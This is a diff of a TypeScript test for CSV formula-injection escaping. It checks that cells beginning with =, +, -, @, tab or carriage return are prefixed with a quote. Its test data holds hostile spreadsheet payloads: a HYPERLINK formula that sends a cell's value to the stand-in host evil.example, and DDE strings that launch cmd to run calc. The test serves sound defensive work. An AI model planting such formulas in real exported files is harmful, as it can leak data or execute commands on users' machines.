@@ -10,7 +10,7 @@ describe.each([',', ';'] as const)('with "%s"', (delimiter) => {
     const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+31 6 1234', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
     const [row] = read(csvDocument([attacks], delimiter), delimiter);
     expect(row).toEqual(attacks.map((a) => `'${a}`));
-    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   test('numbers stay numbers, ordinary text stays as typed', () => {
